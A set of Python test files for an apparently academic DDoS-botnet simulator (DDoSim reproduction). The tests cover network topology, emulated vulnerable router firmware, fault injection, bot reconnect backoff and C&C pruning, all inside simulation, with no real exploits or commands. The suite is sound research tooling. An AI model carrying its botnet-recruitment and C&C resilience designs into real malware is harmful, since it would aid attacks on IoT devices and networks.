    def test_every_line_is_json(self):
        from repro.obs.trace import EventTracer

        tracer = EventTracer()
        tracer.emit("churn.down", 1.0, device=3)
        tracer.emit("churn.up", 2.0, device=3)
        lines = tracer.to_jsonl().splitlines()
        assert len(lines) == 2
        for line in lines:
            record = json.loads(line)
            assert {"event", "t"} <= set(record)
