"""Tests for the tiered (host → home router → ISP → core) topology."""

import pytest

from repro.core import DDoSim, SimulationConfig
from repro.netsim.address import ALL_DHCP_RELAY_AGENTS_AND_SERVERS
from repro.netsim.headers import PROTO_UDP, UdpHeader
from repro.netsim.node import Node
from repro.netsim.packet import Packet
from repro.netsim.sink import PacketSink
from repro.netsim.tiered import TieredInternet


@pytest.fixture
def tiered(sim):
    return TieredInternet(sim, n_isps=2)


class TestTieredWiring:
    def test_iot_hosts_get_home_routers(self, sim, tiered):
        iot = Node(sim, "iot")
        desktop = Node(sim, "desktop")
        iot_link = tiered.attach_host(iot, 300e3)
        desktop_link = tiered.attach_host(desktop, 100e6)
        assert iot_link.home_router is not None
        assert desktop_link.home_router is None

    def test_home_routers_spread_across_isps(self, sim, tiered):
        homes = []
        for index in range(4):
            node = Node(sim, f"iot{index}")
            homes.append(tiered.attach_host(node, 300e3).home_router)
        # Round-robin over 2 ISPs: 4 homes, distinct routers.
        assert len({home.name for home in homes}) == 4

    def test_double_attach_rejected(self, sim, tiered):
        node = Node(sim, "iot")
        tiered.attach_host(node, 300e3)
        with pytest.raises(ValueError):
            tiered.attach_host(node, 300e3)

    def test_unique_addresses(self, sim, tiered):
        links = [
            tiered.attach_host(Node(sim, f"h{i}"), 300e3) for i in range(6)
        ]
        assert len({link.ipv6 for link in links}) == 6


class TestTieredDatapath:
    def test_iot_to_core_host_end_to_end(self, sim, tiered):
        iot = Node(sim, "iot")
        server = Node(sim, "server")
        tiered.attach_host(iot, 300e3)
        tiered.attach_host(server, 100e6)
        sink = PacketSink(server)
        sink.start()
        iot.udp.send_datagram(
            None, tiered.address_of(server), 7777, src_port=1, payload_size=400
        )
        sim.run(until=2.0)
        assert sink.total_packets == 1

    def test_core_host_to_iot_end_to_end(self, sim, tiered):
        iot = Node(sim, "iot")
        server = Node(sim, "server")
        tiered.attach_host(iot, 300e3)
        tiered.attach_host(server, 100e6)
        inbox = []
        iot.udp.bind(547, lambda p, u, i: inbox.append(p))
        server.udp.send_datagram(
            b"hi", tiered.address_of(iot), 547, src_port=1
        )
        sim.run(until=2.0)
        assert len(inbox) == 1

    def test_iot_to_iot_crosses_isps(self, sim, tiered):
        one = Node(sim, "iot-one")
        two = Node(sim, "iot-two")
        tiered.attach_host(one, 300e3)
        tiered.attach_host(two, 300e3)  # round-robin: different ISP
        inbox = []
        two.udp.bind(9, lambda p, u, i: inbox.append(p))
        one.udp.send_datagram(b"x", tiered.address_of(two), 9, src_port=1)
        sim.run(until=2.0)
        assert len(inbox) == 1

    def test_multicast_reaches_members_through_tiers(self, sim, tiered):
        sender = Node(sim, "attacker")
        tiered.attach_host(sender, 100e6)
        inboxes = []
        for index in range(3):
            iot = Node(sim, f"iot{index}")
            tiered.attach_host(iot, 300e3, dhcp6_multicast_member=True)
            iot.ip.join_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
            inbox = []
            iot.udp.bind(547, lambda p, u, i, ib=inbox: ib.append(p))
            inboxes.append(inbox)
        packet = Packet(payload_size=40)
        packet.add_header(UdpHeader(546, 547))
        sender.ip.send(packet, ALL_DHCP_RELAY_AGENTS_AND_SERVERS, PROTO_UDP)
        sim.run(until=2.0)
        assert all(len(inbox) == 1 for inbox in inboxes)

    def test_churn_interface(self, sim, tiered):
        iot = Node(sim, "iot")
        link = tiered.attach_host(iot, 300e3)
        tiered.set_host_up(iot, False)
        assert not link.up
        tiered.set_host_up(iot, True)
        assert link.up

    def test_queue_drop_accounting(self, sim, tiered):
        fast = Node(sim, "fast")
        slow = Node(sim, "slow")
        tiered.attach_host(fast, 100e6)
        tiered.attach_host(slow, 20e3, queue_packets=5)
        PacketSink(slow).start()
        for _ in range(100):
            fast.udp.send_datagram(
                None, tiered.address_of(slow), 7, src_port=1, payload_size=1000
            )
        sim.run(until=3.0)
        assert tiered.total_queue_drops() > 0


class TestTieredFullStack:
    def test_abstraction_equivalence(self):
        """The paper's §III-D claim: a multi-hub path behaves like one
        link with the right rate — full experiment, both topologies."""
        config = SimulationConfig(
            n_devs=8, seed=3, attack_duration=15.0,
            recruit_timeout=40.0, sim_duration=200.0,
        )
        star = DDoSim(config).run()
        tiered = DDoSim(
            config,
            network_factory=lambda sim, c: TieredInternet(
                sim, default_queue_packets=c.queue_packets
            ),
        ).run()
        assert star.recruitment.infection_rate == 1.0
        assert tiered.recruitment.infection_rate == 1.0
        divergence = abs(
            star.attack.avg_received_kbps - tiered.attack.avg_received_kbps
        ) / star.attack.avg_received_kbps
        assert divergence < 0.1
