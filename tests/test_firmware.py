"""Tests for the Firmadyne/QEMU full-firmware emulation mode."""

import pytest

from repro.core import DDoSim, SimulationConfig
from repro.firmware.image import DEFAULT_GUEST_RAM, build_firmware
from repro.firmware.qemu import BOOT_STAGES, QemuSystem
from repro.netsim.node import Node
from tests.helpers import MiniNet


class TestFirmwareImages:
    def test_dnsmasq_firmware_contents(self):
        firmware = build_firmware("dnsmasq")
        assert firmware.metadata.vendor == "Netgear"
        for path in ("/bin/sh", "/usr/sbin/dnsmasq", "/usr/sbin/telnetd",
                     "/www/index.html", "/etc/passwd", "/lib/libc.so.0"):
            assert firmware.rootfs.exists(path)
        assert firmware.daemon_path == "/usr/sbin/dnsmasq"
        assert firmware.nvram["telnet_enabled"] == "1"

    def test_connman_firmware_contents(self):
        firmware = build_firmware("connman", protections=("wx", "aslr"))
        assert firmware.daemon_path == "/usr/sbin/connmand"
        from repro.binaries.binfmt import BinaryImage

        daemon = BinaryImage.parse(firmware.rootfs.read_file(firmware.daemon_path))
        assert daemon.protections == frozenset(("wx", "aslr"))

    def test_unknown_kind_rejected(self):
        with pytest.raises(ValueError):
            build_firmware("openwrt-ash")

    def test_flash_size_is_realistic(self):
        firmware = build_firmware("dnsmasq")
        assert firmware.flash_size_bytes > 1_000_000  # libs + daemons

    def test_patched_firmware(self):
        firmware = build_firmware("dnsmasq", vulnerable=False)
        from repro.binaries.binfmt import BinaryImage

        daemon = BinaryImage.parse(firmware.rootfs.read_file(firmware.daemon_path))
        assert not daemon.vulnerable


class TestQemuSystem:
    def _boot(self, mininet=None):
        mininet = mininet or MiniNet()
        node = Node(mininet.sim, "qemu-dev")
        mininet.star.attach_host(node, 300e3)
        system = QemuSystem(
            mininet.runtime, build_firmware("dnsmasq"), "qemu-dev", node
        )
        system.start()
        return mininet, system

    def test_boot_sequence_gates_services(self):
        mininet, system = self._boot()
        boot_time = sum(duration for _stage, duration in BOOT_STAGES)
        mininet.sim.run(until=boot_time - 0.5)
        assert not system.booted
        assert not system.container.find_processes("dnsmasq")
        mininet.sim.run(until=boot_time + 1.0)
        assert system.booted
        assert system.container.find_processes("dnsmasq")
        assert system.boot_completed_at == pytest.approx(boot_time)

    def test_full_userland_running_after_boot(self):
        mininet, system = self._boot()
        mininet.sim.run(until=10.0)
        names = {p.name for p in system.container.live_processes()}
        assert {"syslogd", "watchdog", "httpd", "telnetd", "dropbear",
                "dnsmasq"} <= names

    def test_guest_ram_reserved_up_front(self):
        mininet, system = self._boot()
        mininet.sim.run(until=1.0)  # still booting: RAM already charged
        assert system.memory_bytes() >= DEFAULT_GUEST_RAM

    def test_management_ui_served(self):
        mininet, system = self._boot()
        client, _n, _ = mininet.host_container("client", rate_bps=10e6)
        mininet.sim.run(until=10.0)
        from repro.netsim.process import SimProcess
        from repro.services.http import http_get

        pages = []

        def fetch():
            response = yield from http_get(
                client.netns, mininet.star.address_of(system.node), 80, "/index.html"
            )
            pages.append(response)

        SimProcess(mininet.sim, fetch(), name="fetch")
        mininet.sim.run(until=20.0)
        assert pages and b"management" in pages[0].body

    def test_nvram_exposed_via_environment(self):
        mininet, system = self._boot()
        assert system.container.env["NVRAM_LAN_IPADDR"] == "192.168.1.1"


class TestFirmwareFleetEndToEnd:
    @pytest.fixture(scope="class")
    def run(self):
        config = SimulationConfig(
            n_devs=5, seed=4, attack_duration=15.0,
            recruit_timeout=60.0, sim_duration=250.0,
            dev_emulation="firmware",
        )
        ddosim = DDoSim(config)
        result = ddosim.run()
        return ddosim, result

    def test_recruitment_identical_to_container_mode(self, run):
        _ddosim, result = run
        assert result.recruitment.infection_rate == 1.0

    def test_recruitment_starts_after_boot(self, run):
        _ddosim, result = run
        boot_time = sum(duration for _stage, duration in BOOT_STAGES)
        assert result.recruitment.first_bot_time > boot_time

    def test_firmware_fleet_memory_dwarfs_container_mode(self, run):
        ddosim, _result = run
        firmware_memory = ddosim.runtime.total_memory_bytes()
        container_config = SimulationConfig(
            n_devs=5, seed=4, attack_duration=15.0,
            recruit_timeout=60.0, sim_duration=250.0,
        )
        container_sim = DDoSim(container_config)
        container_sim.run()
        assert firmware_memory > 5 * container_sim.runtime.total_memory_bytes()

    def test_qemu_systems_tracked(self, run):
        ddosim, _result = run
        assert len(ddosim.devs.qemu_systems) == 5
        assert all(system.booted for system in ddosim.devs.qemu_systems)

    def test_invalid_emulation_mode_rejected(self):
        with pytest.raises(ValueError):
            SimulationConfig(n_devs=2, dev_emulation="bare-metal")
