"""Tests for the fault-injection subsystem (repro.faults) and the
recovery semantics it relies on (bot backoff, C&C pruning, container
restart, admin link state)."""

import random
from dataclasses import replace

import pytest

from repro.botnet.bot import (
    RECONNECT_BACKOFF,
    RECONNECT_BACKOFF_MAX,
    reconnect_delay,
)
from repro.botnet.cnc import BotRecord, CncServer
from repro.core.config import SimulationConfig
from repro.core.framework import DDoSim
from repro.faults import (
    FaultEvent,
    FaultPlan,
    FaultPlanError,
    FaultSpec,
    load_fault_plan,
)
from repro.netsim.netdevice import PointToPointDevice
from repro.netsim.simulator import Simulator
from repro.obs.observatory import Observatory
from repro.serialization import result_to_json
from tests.helpers import MiniNet


def tiny_config(**overrides):
    base = dict(
        n_devs=2,
        seed=1,
        attack_duration=10.0,
        recruit_timeout=30.0,
        sim_duration=120.0,
        # All-unprotected fleets recruit deterministically, which the
        # baseline-vs-fault comparisons below rely on.
        protection_profiles=((),),
    )
    base.update(overrides)
    return SimulationConfig(**base)


# ----------------------------------------------------------------------
# FaultPlan (de)serialization and validation
# ----------------------------------------------------------------------
class TestFaultPlan:
    def test_json_round_trip(self):
        plan = FaultPlan(
            faults=(
                FaultSpec(kind="link_flap", target="dev*", at=10.0,
                          duration=5.0, count=3, period=20.0, jitter=2.0),
                FaultSpec(kind="cnc_outage", at=40.0, duration=30.0),
                FaultSpec(kind="churn", mode="static", phi=(0.2, 0.1, 0.05)),
            ),
            intensity=0.5,
        )
        rebuilt = FaultPlan.from_json(plan.to_json())
        assert rebuilt == plan

    def test_dict_coercion_in_spec_list(self):
        plan = FaultPlan(faults=({"kind": "crash", "target": "dev001"},))
        assert isinstance(plan.faults[0], FaultSpec)
        assert plan.faults[0].target == "dev001"

    def test_unknown_fields_rejected(self):
        with pytest.raises(FaultPlanError):
            FaultPlan.from_dict({"faults": [], "intensity": 1.0, "bogus": 1})
        with pytest.raises(FaultPlanError):
            FaultPlan.from_dict({"faults": [{"kind": "crash", "wat": 2}]})

    def test_bad_specs_rejected(self):
        with pytest.raises(FaultPlanError):
            FaultSpec(kind="meteor_strike")
        with pytest.raises(FaultPlanError):
            FaultSpec(kind="crash", at=-1.0)
        with pytest.raises(FaultPlanError):
            FaultSpec(kind="link_flap", count=3)  # repeats need a period
        with pytest.raises(FaultPlanError):
            FaultSpec(kind="link_down", probability=1.5)
        with pytest.raises(FaultPlanError):
            FaultSpec(kind="churn", mode="sideways")

    def test_scaled_keeps_specs(self):
        plan = FaultPlan(faults=(FaultSpec(kind="crash"),))
        half = plan.scaled(0.5)
        assert half.intensity == 0.5
        assert half.faults == plan.faults

    def test_load_from_disk(self, tmp_path):
        path = tmp_path / "plan.json"
        plan = FaultPlan(faults=(FaultSpec(kind="sink_stall", at=5.0),))
        path.write_text(plan.to_json(), encoding="utf-8")
        assert load_fault_plan(str(path)) == plan

    def test_config_coerces_dict_plan(self):
        config = tiny_config(faults={"faults": [{"kind": "crash"}]})
        assert isinstance(config.faults, FaultPlan)
        with pytest.raises(ValueError):
            tiny_config(faults="not a plan")


# ----------------------------------------------------------------------
# Determinism
# ----------------------------------------------------------------------
class TestDeterminism:
    def _jittery_plan(self):
        return FaultPlan(
            faults=(
                FaultSpec(kind="link_flap", target="dev*", at=15.0,
                          duration=4.0, count=2, period=25.0, jitter=6.0,
                          probability=0.8),
                FaultSpec(kind="link_degrade", target="dev*", pick=1,
                          at=30.0, duration=20.0, loss_rate=0.2),
            )
        )

    def test_same_plan_and_seed_replays_identically(self):
        runs = []
        for _ in range(2):
            ddosim = DDoSim(tiny_config(faults=self._jittery_plan()))
            result = ddosim.run()
            runs.append((ddosim.fault_injector.log, result_to_json(result)))
        assert runs[0][0] == runs[1][0]
        assert runs[0][1] == runs[1][1]
        # The log holds typed events, at least some of them injections.
        assert all(isinstance(event, FaultEvent) for event in runs[0][0])
        assert "inject" in {event.action for event in runs[0][0]}

    def test_different_seed_changes_schedule(self):
        logs = []
        for seed in (1, 2):
            ddosim = DDoSim(tiny_config(seed=seed, faults=self._jittery_plan()))
            ddosim.run()
            logs.append(ddosim.fault_injector.log)
        assert logs[0] != logs[1]

    def test_empty_plan_is_bit_identical_to_plain_run(self):
        plain = DDoSim(tiny_config())
        plain_result = plain.run()
        armed = DDoSim(tiny_config(faults=FaultPlan()))
        armed_result = armed.run()
        assert result_to_json(plain_result) == result_to_json(armed_result)
        assert plain.obs.metrics.to_json() == armed.obs.metrics.to_json()
        assert armed.fault_injector.log == []

    def test_zero_intensity_arms_nothing(self):
        plan = self._jittery_plan().scaled(0.0)
        ddosim = DDoSim(tiny_config(faults=plan))
        result = ddosim.run()
        plain = result_to_json(DDoSim(tiny_config()).run())
        assert ddosim.fault_injector.injected == 0
        assert result_to_json(result) == plain


# ----------------------------------------------------------------------
# Churn as the special case of a one-fault plan
# ----------------------------------------------------------------------
class TestChurnEquivalence:
    def _strip_mode(self, text_a, text_b):
        return (
            text_a.replace('"dynamic"', '"X"').replace('"none"', '"X"'),
            text_b.replace('"dynamic"', '"X"').replace('"none"', '"X"'),
        )

    def test_dynamic_churn_fault_matches_config_churn(self):
        config = tiny_config(n_devs=4, churn="dynamic")
        native = DDoSim(config).run()
        plan = FaultPlan(faults=(FaultSpec(kind="churn", mode="dynamic"),))
        faulted_sim = DDoSim(tiny_config(n_devs=4, faults=plan))
        faulted = faulted_sim.run()
        # Identical except the churn_mode labels (the fault run's config
        # says "none"; the model and its seeded stream are the same).
        assert native.churn.departures == faulted.churn.departures
        assert native.churn.rejoins == faulted.churn.rejoins
        native_json, faulted_json = self._strip_mode(
            result_to_json(native), result_to_json(faulted)
        )
        assert native_json == faulted_json

    def test_static_churn_fault_matches_config_churn(self):
        native = DDoSim(tiny_config(n_devs=4, churn="static")).run()
        plan = FaultPlan(faults=(FaultSpec(kind="churn", mode="static"),))
        faulted = DDoSim(tiny_config(n_devs=4, faults=plan)).run()
        assert native.churn.departures == faulted.churn.departures
        native_json, faulted_json = (
            result_to_json(native).replace('"static"', '"X"').replace('"none"', '"X"'),
            result_to_json(faulted).replace('"static"', '"X"').replace('"none"', '"X"'),
        )
        assert native_json == faulted_json


# ----------------------------------------------------------------------
# Link faults
# ----------------------------------------------------------------------
class TestLinkFaults:
    def test_permanent_dev_link_down_blocks_recruitment(self):
        plan = FaultPlan(faults=(FaultSpec(kind="link_down", target="dev*"),))
        result = DDoSim(tiny_config(faults=plan)).run()
        assert result.recruitment.bots_recruited == 0

    def test_partition_during_attack_cuts_received_rate(self):
        baseline = DDoSim(tiny_config()).run()
        # Partition TServer's router-side link across the attack window.
        start = baseline.attack.issued_at
        plan = FaultPlan(
            faults=(
                FaultSpec(kind="partition", target="tserver", at=start,
                          duration=baseline.attack.duration),
            )
        )
        partitioned = DDoSim(tiny_config(faults=plan)).run()
        assert (
            partitioned.attack.received_bytes < baseline.attack.received_bytes
        )

    def test_degrade_applies_and_clears_overrides(self):
        plan = FaultPlan(
            faults=(
                FaultSpec(kind="link_degrade", target="tserver", at=1.0,
                          duration=5.0, delay=0.5, loss_rate=0.3,
                          data_rate_bps=50_000.0),
            )
        )
        ddosim = DDoSim(tiny_config(faults=plan))
        ddosim.build()
        link = ddosim.tserver.link
        base_delay = link.channel.delay
        base_rate = link.host_device.data_rate_bps
        ddosim.run()
        # After the clear event everything is restored.
        assert link.channel.delay == base_delay
        assert link.channel.loss_rate == 0.0
        assert link.host_device.data_rate_bps == base_rate
        assert [e.action for e in ddosim.fault_injector.log] == ["inject", "clear"]

    def test_admin_state_is_orthogonal_to_churn_state(self):
        sim = Simulator()
        device = PointToPointDevice(sim, 1e6)
        device.set_admin_down()
        assert not device.up
        device.set_up()  # churn rejoin cannot resurrect an admin fault
        assert not device.up
        device.set_admin_up()
        assert device.up
        device.set_down()  # churn departure
        device.set_admin_down()
        device.set_admin_up()  # clearing the fault keeps churn's verdict
        assert not device.up
        device.set_up()
        assert device.up


# ----------------------------------------------------------------------
# Container faults and restart
# ----------------------------------------------------------------------
class TestContainerFaults:
    def test_restart_loop_leaves_no_stale_state(self):
        mininet = MiniNet()
        mininet.sim.attach_observatory(Observatory())
        container, node, _link = mininet.host_container("victim")
        for _ in range(5):
            mininet.runtime.stop(container)
            assert container.netns is None  # veth detached on stop
            mininet.runtime.restart(container)
            assert container.state == "running"
            assert container.netns is not None
            assert container.netns.node is node
        # Exactly one live bridge is registered however many cycles ran.
        assert len(mininet.runtime.veths) == 1
        assert (
            mininet.sim.obs.metrics.value("container_restarts_total") == 5
        )

    def test_restart_is_a_fresh_boot(self):
        mininet = MiniNet()
        container, _node, _link = mininet.host_container("victim")
        container.fs.write_file("/tmp/infected", b"payload", mode=0o644)
        mininet.runtime.restart(container)
        assert not container.fs.exists("/tmp/infected")

    def test_remove_detaches_and_forgets_veth(self):
        mininet = MiniNet()
        container, _node, _link = mininet.host_container("victim")
        mininet.runtime.stop(container)
        mininet.runtime.remove(container)
        assert container.netns is None
        assert "victim" not in mininet.runtime.veths

    def test_crash_restart_fault_revives_device(self):
        plan = FaultPlan(
            faults=(
                FaultSpec(kind="crash_restart", target="dev000", at=5.0,
                          restart_after=10.0),
            )
        )
        ddosim = DDoSim(tiny_config(faults=plan))
        ddosim.run()
        dev = ddosim.devs.devs[0]
        assert dev.container.state == "running"
        assert [e.action for e in ddosim.fault_injector.log] == ["inject", "clear"]
        assert ddosim.obs.metrics.value("container_restarts_total") == 1

    def test_memory_kill_removes_largest_process(self):
        plan = FaultPlan(
            faults=(FaultSpec(kind="memory_kill", target="dev000", at=3.0),)
        )
        ddosim = DDoSim(tiny_config(faults=plan))
        ddosim.build()
        container = ddosim.devs.devs[0].container
        ddosim.run()
        log = ddosim.fault_injector.log
        assert [e.kind for e in log] == ["memory_kill"]
        assert container.state == "running"  # the container survives


# ----------------------------------------------------------------------
# Service faults
# ----------------------------------------------------------------------
class TestServiceFaults:
    def test_cnc_outage_bots_rerecruit_via_backoff(self):
        # Outage at t=30 for 20 s; the long settle delay leaves the bots
        # ample backoff room to re-register before the attack order.
        plan = FaultPlan(
            faults=(FaultSpec(kind="cnc_outage", at=30.0, duration=20.0),)
        )
        config = tiny_config(
            sim_duration=400.0, attack_settle_delay=60.0, faults=plan
        )
        ddosim = DDoSim(config, observatory=Observatory.full())
        ddosim.run()  # must complete without unhandled exceptions
        cnc = ddosim.attacker.cnc
        # Bots re-registered after the restart: more registrations than
        # distinct recruits, reached through the reconnect backoff.
        assert len(cnc.seen_addresses) == 2
        assert cnc.total_registrations > len(cnc.seen_addresses)
        reconnect_events = ddosim.obs.tracer.events("bot.reconnect")
        assert reconnect_events
        assert ddosim.obs.metrics.value("bots_reconnects_total") >= len(
            reconnect_events
        )
        fault_events = ddosim.obs.tracer.events("fault.inject")
        assert [e.fields["kind"] for e in fault_events] == ["cnc_outage"]

    def test_sink_stall_cuts_recorded_bytes(self):
        baseline = DDoSim(tiny_config()).run()
        start = baseline.attack.issued_at
        plan = FaultPlan(
            faults=(
                FaultSpec(kind="sink_stall", at=start,
                          duration=baseline.attack.duration / 2),
            )
        )
        stalled = DDoSim(tiny_config(faults=plan)).run()
        assert stalled.attack.received_bytes < baseline.attack.received_bytes

    def test_fault_metrics_count_injections_by_kind(self):
        plan = FaultPlan(
            faults=(
                FaultSpec(kind="sink_stall", at=5.0, duration=2.0),
                FaultSpec(kind="link_down", target="dev001", at=8.0,
                          duration=2.0),
            )
        )
        ddosim = DDoSim(tiny_config(faults=plan))
        ddosim.run()
        metrics = ddosim.obs.metrics
        assert metrics.value("faults_injected_total", "kind=sink_stall") == 1
        assert metrics.value("faults_injected_total", "kind=link_down") == 1
        assert ddosim.fault_injector.injected == 2


# ----------------------------------------------------------------------
# Bot reconnect backoff
# ----------------------------------------------------------------------
class TestReconnectBackoff:
    def test_deterministic_for_same_rng_state(self):
        delays_a = [reconnect_delay(n, random.Random(7)) for n in range(1, 6)]
        delays_b = [reconnect_delay(n, random.Random(7)) for n in range(1, 6)]
        assert delays_a == delays_b

    def test_exponential_growth_capped(self):
        rng = random.Random(1)
        # Jitter scales in [0.5, 1.0], so bounds per failure count are
        # [base*2^(n-1)/2, base*2^(n-1)] up to the cap.
        for failures in range(1, 12):
            delay = reconnect_delay(failures, rng)
            ceiling = min(
                RECONNECT_BACKOFF_MAX, RECONNECT_BACKOFF * 2 ** (failures - 1)
            )
            assert ceiling / 2.0 <= delay <= ceiling
        assert reconnect_delay(50, rng) <= RECONNECT_BACKOFF_MAX

    def test_jitter_desynchronizes_a_fleet(self):
        delays = {
            round(reconnect_delay(3, random.Random(seed)), 6)
            for seed in range(20)
        }
        assert len(delays) > 15  # not lockstep


# ----------------------------------------------------------------------
# C&C bot-table pruning
# ----------------------------------------------------------------------
class _DeadSocket:
    def send_line(self, line):
        raise ConnectionError("peer is gone")


class _LiveSocket:
    def __init__(self):
        self.lines = []

    def send_line(self, line):
        self.lines.append(line)


class TestCncPrune:
    def _record(self, bot_id, socket):
        return BotRecord(
            bot_id=bot_id, address=f"fe80::{bot_id}", architecture="x86_64",
            connected_at=0.0, socket=socket,
        )

    def test_broadcast_prunes_dead_peer_immediately(self):
        cnc = CncServer()
        dead = self._record(1, _DeadSocket())
        live = self._record(2, _LiveSocket())
        cnc.bots = {1: dead, 2: live}
        sent = cnc.broadcast("PING")
        assert sent == 1
        assert not dead.alive
        assert 1 not in cnc.bots  # pruned, not just flagged
        assert cnc.bot_count() == 1
        assert live.socket.lines == ["PING"]

    def test_prune_notifies_bot_count_waiters_safely(self):
        cnc = CncServer()
        sim = Simulator()
        cnc._sim = sim
        cnc.bots = {1: self._record(1, _DeadSocket())}
        # A pending waiter must survive the prune-triggered notification.
        future = cnc.wait_for_bots(5)
        cnc.broadcast("PING")
        assert not future.done
        assert cnc.bot_count() == 0
        assert sim.obs.metrics.value("cnc_bot_prunes_total") == 0  # null obs


# ----------------------------------------------------------------------
# NetworkUnreachable
# ----------------------------------------------------------------------
class TestNetworkUnreachable:
    def test_connect_without_address_raises_connection_error(self):
        from repro.netsim.address import Ipv6Address
        from repro.netsim.node import Node
        from repro.netsim.tcp import NetworkUnreachable

        sim = Simulator()
        node = Node(sim, "orphan")  # no devices, no addresses
        destination = Ipv6Address.parse("2001:db8::1")
        with pytest.raises(NetworkUnreachable) as excinfo:
            node.tcp.connect(destination, 80)
        assert isinstance(excinfo.value, ConnectionError)


# ----------------------------------------------------------------------
# Fault sweep runner
# ----------------------------------------------------------------------
class TestFaultSweep:
    def test_sweep_scales_intensity(self):
        from repro.core.experiment import run_fault_sweep

        plan = FaultPlan(
            faults=(
                FaultSpec(kind="link_down", target="dev*", probability=1.0),
            )
        )
        rows = run_fault_sweep(
            plan, intensity_grid=(0.0, 1.0), n_devs=2,
            base_config=tiny_config(),
        )
        assert [row["intensity"] for row in rows] == [0.0, 1.0]
        assert rows[0]["faults_injected"] == 0
        assert rows[1]["faults_injected"] == 2  # both dev links downed
        assert rows[1]["avg_received_kbps"] <= rows[0]["avg_received_kbps"]

    def test_churn_plan_reproduces_churn_rows(self):
        from repro.core.experiment import run_fault_sweep, run_figure2

        churn_rows = run_figure2(
            devs_grid=(4,), churn_modes=("dynamic",),
            base_config=tiny_config(),
        )
        plan = FaultPlan(faults=(FaultSpec(kind="churn", mode="dynamic"),))
        fault_rows = run_fault_sweep(
            plan, intensity_grid=(1.0,), n_devs=4, base_config=tiny_config()
        )
        assert (
            fault_rows[0]["avg_received_kbps"]
            == churn_rows[0]["avg_received_kbps"]
        )
        assert (
            fault_rows[0]["bots_at_attack"] == churn_rows[0]["bots_at_attack"]
        )

    def test_config_with_plan_survives_serialization(self):
        from repro.serialization import config_from_json, config_to_json

        plan = FaultPlan(
            faults=(FaultSpec(kind="link_flap", target="dev*", at=10.0,
                              duration=5.0, count=2, period=30.0),),
            intensity=0.75,
        )
        config = tiny_config(faults=plan)
        rebuilt = config_from_json(config_to_json(config))
        assert rebuilt.faults == plan
        assert rebuilt == config


# ----------------------------------------------------------------------
# Flight-recorder integration: injections force a post-mortem dump
# ----------------------------------------------------------------------
class TestFlightRecorderDump:
    def test_injected_container_crash_dumps_recorder(self):
        plan = FaultPlan(
            faults=(FaultSpec(kind="crash", target="dev000", at=5.0),)
        )
        ddosim = DDoSim(tiny_config(faults=plan), observatory=Observatory())
        ddosim.run()
        dumps = ddosim.obs.recorder.dumps
        assert dumps, "fault injection must force a flight-recorder dump"
        crash = next(d for d in dumps if d["reason"] == "fault.crash")
        assert crash["t"] == pytest.approx(5.0)
        # The ring captured the run-up: container lifecycle notes plus
        # the fault.inject landmark itself.
        kinds = {note["kind"] for note in crash["notes"]}
        assert "container.spawn" in kinds
        assert "fault.inject" in kinds
        inject = next(n for n in crash["notes"] if n["kind"] == "fault.inject")
        assert inject["fault"] == "crash"
        assert inject["target"] == "dev000"

    def test_default_observatory_recorder_is_always_on(self):
        ddosim = DDoSim(tiny_config(), observatory=Observatory())
        assert ddosim.obs.recorder.enabled
        ddosim.run()
        # No faults, no crash: notes accumulate but nothing dumps.
        assert ddosim.obs.recorder.noted > 0
        assert ddosim.obs.recorder.dumps == []
