"""Mini-harness: hand-assembled containers on the star Internet.

Lets protocol/daemon tests build exactly the topology they need without
pulling in the full DDoSim framework.
"""

from __future__ import annotations

from repro.binaries.shell import make_shell_program
from repro.container.image import Image
from repro.container.runtime import ContainerRuntime
from repro.netsim.node import Node
from repro.netsim.simulator import Simulator
from repro.netsim.topology import StarInternet


class MiniNet:
    """A simulator + star + container runtime bundle for tests."""

    def __init__(self, seed: int = 1):
        self.sim = Simulator()
        self.star = StarInternet(self.sim)
        self.runtime = ContainerRuntime(self.sim, seed=seed)

    def host_container(
        self,
        name: str,
        rate_bps: float = 1e6,
        files: dict = None,
        env: dict = None,
        with_shell: bool = True,
        dhcp6_member: bool = False,
        allow_curl: bool = True,
    ):
        """Create a started container bridged to a star-attached node.

        ``files`` maps path -> bytes | (bytes, mode) | (bytes, mode, program).
        Returns (container, node, link).
        """
        image = Image(f"{name}-image")
        if with_shell:
            image.fs.write_file(
                "/bin/sh", b"#!sh", mode=0o755,
                program=make_shell_program(allow_curl=allow_curl),
            )
        for path, spec in (files or {}).items():
            if isinstance(spec, bytes):
                image.fs.write_file(path, spec, mode=0o755)
            else:
                data, mode = spec[0], spec[1]
                program = spec[2] if len(spec) > 2 else None
                image.fs.write_file(path, data, mode=mode, program=program)
        self.runtime.add_image(image)
        container = self.runtime.create(image.reference, name=name)
        if env:
            container.env.update(env)
        node = Node(self.sim, f"{name}-node")
        link = self.star.attach_host(
            node, rate_bps, dhcp6_multicast_member=dhcp6_member
        )
        self.runtime.attach_network(container, node)
        self.runtime.start(container)
        return container, node, link
