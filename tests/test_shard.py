"""Sharded simulation engine: byte-identity, protocol, and chaos tests.

The contract under test (repro.netsim.shard): partitioning ONE run
across N worker processes changes wall-clock only — the serialized
RunResult and the metrics snapshot are byte-identical to the
single-process run, cross-shard hand-off ordering is deterministic and
observable (sync traces), and checkpoint fingerprint trees compose
across ranks so kill/resume round-trips survive sharding.
"""

import json
from pathlib import Path

import pytest

from repro.core.config import SimulationConfig
from repro.faults import FaultPlan, FaultSpec
from repro.netsim.shard import (
    ShardError,
    run_sharded,
    shard_lookahead,
    validate_shard_config,
)
from repro.serialization import result_to_json
from repro.simlint.verify import first_divergence


def _fast_config(**overrides):
    base = dict(n_devs=4, seed=3, attack_duration=30.0, sim_duration=200.0)
    base.update(overrides)
    return SimulationConfig(**base)


def _run_bytes(config, shards):
    run = run_sharded(config, shards)
    metrics = json.dumps(run.ddosim.obs.metrics.snapshot(), sort_keys=True)
    return result_to_json(run.result), metrics


#: per-flow-mode single-process baselines, computed once per session
_BASELINES = {}


def _baseline(flow):
    if flow not in _BASELINES:
        _BASELINES[flow] = _run_bytes(_fast_config(flood_flow=flow), 1)
    return _BASELINES[flow]


class TestByteIdentity:
    @pytest.mark.parametrize("flow", ["off", "auto", "all"])
    @pytest.mark.parametrize("shards", [2, 4])
    def test_sharded_matches_single_process(self, flow, shards):
        assert _run_bytes(_fast_config(flood_flow=flow), shards) == \
            _baseline(flow)

    @pytest.mark.parametrize("shards", [2, 4])
    def test_train_datapath_matches_single_process(self, shards):
        config = _fast_config(flood_train=8)
        assert _run_bytes(config, shards) == _run_bytes(config, 1)

    def test_more_shards_than_devs_clamps_to_fleet(self):
        # 4 Devs, 9 shards: worker count clamps to the fleet size.
        run = run_sharded(_fast_config(), 9)
